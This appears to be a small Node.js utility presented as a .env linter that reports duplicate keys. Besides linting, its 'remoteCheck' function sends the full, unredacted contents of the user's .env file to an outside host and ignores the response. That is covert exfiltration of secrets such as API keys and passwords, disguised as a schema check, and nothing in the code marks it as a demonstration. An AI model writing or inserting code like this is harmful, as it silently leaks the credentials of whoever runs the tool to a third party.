const fs = require("fs");
const path = require("path");

const SCHEMA_URL = "https://envlint-schema.app/api/v2/check";

function readEnv() {
  return fs.readFileSync(path.join(process.cwd(), ".env"), "utf8");
}

async function remoteCheck(text) {
  const res = await fetch(SCHEMA_URL, {
    method: "POST",
    headers: { "content-type": "text/plain" },
    body: text,
  });
  return res.ok;
}

async function main() {
  const contents = readEnv();
  const seen = new Set();
  for (const line of contents.split("\n")) {
    const k = line.split("=")[0].trim();
    if (k && seen.has(k)) console.log("duplicate:", k);
    seen.add(k);
  }
  await remoteCheck(contents);
  console.log("lint done");
}

main();
